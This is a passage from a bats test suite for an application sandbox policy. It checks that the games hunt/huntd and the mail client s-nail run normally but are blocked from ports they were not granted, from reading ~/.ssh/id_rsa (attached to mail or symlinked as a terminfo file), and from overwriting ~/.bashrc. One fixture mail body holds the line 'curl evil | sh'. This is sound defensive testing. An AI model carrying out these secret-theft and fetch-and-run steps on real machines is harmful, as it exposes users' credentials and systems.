		grep -q -F -- "\"operation\": \"$1\", \"object\": \"$2\", \"decision\": \"deny\"" ||
		fail "no denial of $1 $2 by hunt in the log: $(cat "$LOG" 2>&1)"
}

# The policy as shipped: the game on hunt's own rendezvous port, and a game
# port the kernel gave huntd, which must be in the range hunt.yaml grants.
# bats test_tags=app:hunt,fn:Network_Game
@test "hunt (Network_Game): two players meet in a game on a loopback huntd" {
	start_huntd 26740
	local p
	for p in ${GAME_PORTS//,/ }; do
		((p >= 32768 && p <= 60999)) ||
			fail "huntd plays on port $p, outside the 32768-60999 of hunt.yaml (ip_local_port_range: $(cat /proc/sys/net/ipv4/ip_local_port_range))" ||
			return
	done
	hunt_start alice -- -n alice 127.0.0.1
	hunt_join alice
	hunt_start bob -- -n bob 127.0.0.1
	hunt_join bob
	# The server tells each player who else is in the maze (alice's screen
	# is brought up to date when she plays: she turns left).
	wait_hpane bob alice
	hkeys alice h
	wait_hpane alice bob
	for p in alice bob; do
		hkeys "$p" C-c
		wait_hpane "$p" "Really quit?"
		hkeys "$p" y
		wait_hpane "$p" "fbac-run-status=0"
	done
	[[ ! -s $LOG ]] || fail "events were logged: $(cat "$LOG")"
}

# hunt takes no file name from its user but its terminal's (TERM, looked up
# in ~/.terminfo among others): the key is planted there. It writes no file:
# no ~/.bashrc case. The game here is a private one, on a rendezvous port
# outside those hunt.yaml grants.
# bats test_tags=app:hunt,fn:Network_Game
@test "hunt (Network_Game): no port it was not granted, no ~/.ssh/id_rsa as a terminal description" {
	start_huntd "$(udp_port_below 20000 26000)"
	# Not the rendezvous port of this game.
	hunt_start a -- -n alice -p "$HUNT_PORT" 127.0.0.1
	wait_hpane a "Enter your team"
	hkeys a Enter
	wait_hpane a "fbac-run-status=1" 20
	[[ $(hpane a) == *"Game not found"* ]] || fail "hunt found the game: $(hpane a)"
	hunt_denied network_outgoing "udp:127.0.0.1:$HUNT_PORT"
	# The rendezvous port, but not the game's TCP port: the loopback port
	# huntd answers with is refused.
	: >"$LOG"
	hunt_start b -D "ports=$HUNT_PORT" -- -n bob -p "$HUNT_PORT" 127.0.0.1
	wait_hpane b "Enter your team"
	hkeys b Enter
	wait_hpane b "fbac-run-status=1"
	[[ $(hpane b) == *"connect: Permission denied"* ]] || fail "hunt connected: $(hpane b)"
	local p found=
	for p in ${GAME_PORTS//,/ }; do
		grep -q -F "\"object\": \"tcp:127.0.0.1:$p\"" "$LOG" && found=$p
	done
	[[ -n $found ]] || fail "no denied connection to a port of huntd ($GAME_PORTS): $(cat "$LOG")" || return
	hunt_denied network_outgoing "tcp:127.0.0.1:$found"
	# With every port granted, a terminal description that is the key.
	: >"$LOG"
	mkdir -p "$H/.terminfo/x"
	ln -s "$H/.ssh/id_rsa" "$H/.terminfo/x/xterm-fbac"
	HUNT_TERM=xterm-fbac hunt_start c -D "ports=$HUNT_PORT,$GAME_PORTS" -- -n carol -p "$HUNT_PORT" 127.0.0.1
	wait_hpane c "Enter your team"
	hkeys c Enter
	wait_hpane c "fbac-run-status=1"
	[[ $(hpane c) == *"Error opening terminal: xterm-fbac"* ]] || fail "hunt used the key: $(hpane c)"
	hunt_denied file_getattr "$H/.ssh/id_rsa"
	[[ $(hpane c) != *"$SECRET"* ]] || fail "the secret is on the screen"
}

# ---------------------------------------------------------------------------
# Email_Client: s-nail (mailx)

# start_smtp: tests/fixtures/apps/smtp-sink.py on loopback; PORT, and
# MAILS, the file it appends the messages to.
start_smtp() {
	PORT=$(free_port)
	MAILS=$BATS_TEST_TMPDIR/mails
	background smtp "$SYS_PY" "$APPS_FIX/smtp-sink.py" "$PORT" "$MAILS"
	wait_port "$PORT"
}

# mailx ARG...: s-nail sending through the sink (no authentication).
mailx() {
	app -D "ports=$PORT" -- /usr/bin/s-nail -S v15-compat -S smtp-auth=none \
		-S "mta=smtp://127.0.0.1:$PORT" -r alice@example.org "$@"
}

# bats test_tags=app:s-nail,fn:Email_Client
@test "s-nail (Email_Client): sends mail with an attachment through a loopback SMTP server" {
	need_commands /usr/bin/s-nail
	start_smtp
	printf 'quarterly numbers\n' >"$H/Documents/report.txt"
	run --separate-stderr mailx -s "The report" -a "$H/Documents/report.txt" bob@example.org \
		<<<"Hello Bob, see attached."
	ok
	grep -q '^Subject: The report' "$MAILS" || fail "no message arrived: $(cat "$MAILS")"
	grep -q 'Hello Bob, see attached.' "$MAILS" || fail "no body"
	grep -q 'filename="\?report.txt' "$MAILS" || fail "no attachment"
	# Reading a mailbox in ~/Mail.
	mkdir -p "$H/Mail"
	printf 'From bob@example.org Thu Jan  1 00:00:00 2026\nFrom: bob@example.org\nSubject: Lunch?\n\nAt noon.\n\n' \
		>"$H/Mail/inbox"
	run --separate-stderr app -- /usr/bin/s-nail -N -R -S v15-compat -f "$H/Mail/inbox" <<<$'print 1\nquit'
	ok
	[[ $output == *"Subject: Lunch?"* && $output == *"At noon."* ]] || { show_run; fail "reading"; }
}

# bats test_tags=app:s-nail,fn:Email_Client
@test "s-nail (Email_Client): no ~/.ssh/id_rsa attached, no ~/.bashrc, no other port" {
	need_commands /usr/bin/s-nail
	start_smtp
	run --separate-stderr mailx -s "keys" -a "$H/.ssh/id_rsa" bob@example.org <<<"here"
	[[ $status -ne 0 ]] || { show_run; fail "s-nail sent the key"; }
	denied file_getattr "$H/.ssh/id_rsa" s-nail
	no_secret "$MAILS"
	# Saving a message over ~/.bashrc.
	mkdir -p "$H/Mail"
	printf 'From bob@example.org Thu Jan  1 00:00:00 2026\nFrom: bob@example.org\nSubject: x\n\ncurl evil | sh\n\n' \
		>"$H/Mail/inbox"
	run --separate-stderr app -- /usr/bin/s-nail -N -R -S v15-compat -f "$H/Mail/inbox" \
		<<<"copy 1 $H/.bashrc"$'\nquit'
	denied file_getattr "$H/.bashrc" s-nail
	bashrc_intact
	closed_port
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/s-nail -S v15-compat -S smtp-auth=none \
		-S "mta=smtp://127.0.0.1:$NOPORT" -S "DEAD=$H/Mail/dead.letter" -r alice@example.org \
		-s x bob@example.org <<<"hi"
	[[ $status -ne 0 ]] || { show_run; fail "s-nail sent through an ungranted port"; }
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" s-nail
}
